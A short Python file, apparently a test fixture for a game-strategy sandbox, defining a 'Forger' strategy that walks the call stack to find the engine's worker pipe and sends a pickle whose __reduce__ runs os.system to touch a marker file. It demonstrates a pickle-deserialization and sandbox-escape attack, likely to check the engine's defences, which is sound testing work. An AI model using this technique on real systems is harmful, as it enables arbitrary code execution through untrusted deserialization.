# ruff: noqa
# Sends a pickle that would run a command if the engine unpickled it.
import os
import pickle
import sys
from strategies import plain_strategy


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch __OUTSIDE__/pickled",))


@plain_strategy("Forger")
def forger(me, them):
    frame = sys._getframe()
    while frame is not None:
        worker = frame.f_locals.get("self")
        pipe = getattr(worker, "answers", None) or getattr(worker, "conn", None)
        if pipe is not None:
            pipe.send_bytes(b"\x01" + pickle.dumps(Exploit()))
            pipe.send_bytes(pickle.dumps(Exploit()))
        frame = frame.f_back
    return "D"
